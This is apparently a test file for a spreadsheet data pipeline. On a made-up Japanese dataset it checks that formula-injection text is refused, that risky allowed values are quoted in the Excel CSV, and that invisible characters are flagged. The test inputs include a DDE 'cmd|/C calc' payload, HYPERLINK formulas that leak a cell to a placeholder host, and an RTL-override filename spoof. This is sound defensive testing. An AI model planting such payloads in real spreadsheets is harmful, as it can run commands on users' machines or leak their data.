/**
 * Cell text that would run as a formula, or that hides characters, on a made-up dataset: what is
 * refused, what is only named, and what the Excel CSV makes of text a definition allows.
 */
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { buildPackage } from '../../pipeline/package/buildPackage.ts';
import { processWorkbook } from '../../pipeline/process.ts';
import type { Problem } from '../../pipeline/problem/Problem.ts';
import { shownProblem } from '../../pipeline/report/format.ts';
import { declaredProject, loadDeclared, madeUpDefinition } from '../fixtures/declaredProject.ts';

const definition = madeUpDefinition('cell-text', 'cells.xlsx', {
  primaryKey: 'id',
  columns: [
    { label: '受付番号', field: 'id', rule: 'text' },
    { label: '地区コード', field: 'area_code', rule: 'code' },
    { label: '判定', field: 'result', rule: 'enum' },
    { label: '件数', field: 'count', rule: 'integer' },
    { label: '備考', field: 'note', rule: 'text' },
  ],
});

const recordSchema = {
  $schema: 'https://json-schema.org/draft/2020-12/schema',
  type: 'object',
  additionalProperties: false,
  required: ['id', 'area_code', 'result', 'count', 'note'],
  properties: {
    id: { type: 'string', title: '受付番号' },
    area_code: { type: 'string', title: '地区コード' },
    // A test result written + or −, as clinics do: the definition allows text that starts a formula.
    result: { type: 'string', enum: ['+', '-x', '陰性'], title: '+/-判定' },
    count: { type: 'integer', title: '件数' },
    note: { type: ['string', 'null'], title: '備考' },
  },
};

const HEADER = ['受付番号', '地区コード', '判定', '件数', '備考'];
type Row = (string | number)[];

/** Title, blank row, header, then the rows (from sheet row 4). */
function workbook(rows: Row[]): Buffer {
  const sheet = XLSX.utils.aoa_to_sheet([['判定の一覧（令和2年7月1日時点）※架空のデータ'], [], HEADER, ...rows]);
  const book = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(book, sheet, '一覧');
  return XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
}

const project = declaredProject({ name: 'cell-text', definition, recordSchema });
const dataset = loadDeclared(project);
const read = (rows: Row[]) => processWorkbook(workbook(rows), 'cells.xlsx', dataset);
const at = (problems: Problem[], code: string) => problems.filter((p) => p.code === code).map((p) => p.cell);

describe('text a spreadsheet would run as a formula', () => {
  const hostile: [string, string][] = [
    ['a DDE command led by -', "-2+3+cmd|' /C calc'!A0"],
    ['a hyperlink led by -', '-HYPERLINK("http://example.invalid/?leak="&A1,"詳細")'],
    ['a bullet led by -', '- 項目の説明'],
    ['=', '=1+1'],
    ['+', '+81-3-1234-5678'],
    ['@', '@SUM(1,1)'],
    ['full-width ＝', '＝HYPERLINK("http://example.invalid")'],
    ['full-width －', '－HYPERLINK("http://example.invalid")'],
    ['the minus sign −', '−HYPERLINK("http://example.invalid")'],
    ['small ﹢', '﹢cmd'],
    ['a tab first', '\t=1+1'],
    ['a carriage return first', '\r=1+1'],
  ];

  it.each(hostile)('%s is an error at its cell, with what to do in Japanese', (_, text) => {
    const { report } = read([['A-1', '0012', '陰性', 1, text]]);
    const error = report.errors.find((p) => p.code === 'formula-injection');
    expect(error, JSON.stringify(report.errors)).toMatchObject({ severity: 'error', cell: 'E4', field: 'note' });
    expect(error?.message.ja).toContain('数式として実行');
    expect(error?.fix?.ja).toContain('先頭の');
  });

  it('numbers, a none-marker, dashes inside text and declared values are not', () => {
    const { report, records } = read([
      ['A-1', '0012', '+', '-5', '-5'],
      ['A-2', '0013', '-x', 3, '-'],
      ['A-3', '0014', '陰性', '－１２', '項目 - 説明、1,234.5%'],
      ['A-4', '0015', '陰性', 4, '-1,234.5'],
    ]);
    expect(report.errors).toEqual([]);
    expect(records.map((r) => [r.count, r.note])).toEqual([
      [-5, '-5'],
      [3, null],
      [-12, '項目 - 説明、1,234.5%'],
      [4, '-1,234.5'],
    ]);
  });

  it('quotes the text by code point: an emoji at the cut stays whole', () => {
    const { report } = read([['A-1', '0012', '陰性', 1, `-${'あ'.repeat(17)}😀${'い'.repeat(5)}`]]);
    const error = report.errors.find((p) => p.code === 'formula-injection')!;
    expect(error.message.ja).toContain(`「-${'あ'.repeat(17)}😀…」`);
    expect(JSON.stringify(error)).not.toMatch(/\\ud83d(?!\\ude00)/iu);
  });
});

describe('the Excel CSV', () => {
  const { report, records } = read([
    ['A-1', '0012', '+', 1, '-5'],
    ['A-2', '0013', '-x', 2, 'メモ'],
  ]);
  const built = buildPackage({ dataset, records, asOf: '2020-07-01', version: '1.0.0' });
  const text = (suffix: string) => new TextDecoder().decode(built.files.find((f) => f.path.endsWith(suffix))!.bytes);

  it('puts a quote before text the definition allows that a spreadsheet would run, numbers left as they are', () => {
    expect(report.errors).toEqual([]);
    const lines = text('_excel.csv').split('\r\n');
    expect(lines[0]).toContain(",'+/-判定,");
    expect(lines[1]).toBe("999997,架空市,A-1,0012,'+,1,-5");
    expect(lines[2]).toBe("999997,架空市,A-2,0013,'-x,2,メモ");
  });

  it('while the canonical CSV and the JSON keep the data exact', () => {
    expect(text('cell_text.csv').split('\r\n')[1]).toBe('999997,架空市,A-1,0012,+,1,-5');
    expect(JSON.parse(text('cell_text.json'))[1]).toMatchObject({ result: '-x' });
  });
});

describe('invisible characters', () => {
  it('in text: a warning at the cell naming the code point; the value is published as it is', () => {
    const { report, records } = read([['A-1', '0012', '陰性', 1, 'abc\u202Etxt.exe']]);
    expect(report.errors).toEqual([]);
    const warning = report.warnings.find((p) => p.code === 'invisible-character');
    expect(warning).toMatchObject({ severity: 'warning', cell: 'E4', field: 'note' });
    expect(warning?.message.ja).toContain('U+202E RIGHT-TO-LEFT OVERRIDE');
    expect(warning?.message.en).toContain('abcexe.txt');
    expect(records[0]!.note).toBe('abc\u202Etxt.exe');
  });

  it('in a code or the primary key: an error', () => {
    const { report } = read([
      ['A-1', '00\u200B12', '陰性', 1, 'メモ'],
      ['A-1\u2060', '0013', '陰性', 2, 'メモ\u200D'],
    ]);
    expect(at(report.errors, 'invisible-character')).toEqual(['B4', 'A5']);
    expect(report.errors.find((p) => p.cell === 'B4')?.message.ja).toContain('U+200B ZERO WIDTH SPACE');
    expect(at(report.warnings, 'invisible-character')).toEqual(['E5']);
  });

  it('a report quoting the value shows where the character is', () => {
    const { report } = read([['A-1', '00\u200B12', '陰性', 1, 'メモ']]);
    expect(shownProblem(report.errors.find((p) => p.code === 'invisible-character')!).value).toBe('00<U+200B>12');
  });

  it.each(['200C', '200E', '200F', '202A', '202B', '202C', '202D', '2066', '2067', '2068', '2069'])('U+%s is named', (hex) => {
    const { report } = read([['A-1', '0012', '陰性', 1, `前${String.fromCodePoint(parseInt(hex, 16))}後`]]);
    expect(report.warnings.find((p) => p.code === 'invisible-character')?.message.en).toContain(`U+${hex} `);
  });
});
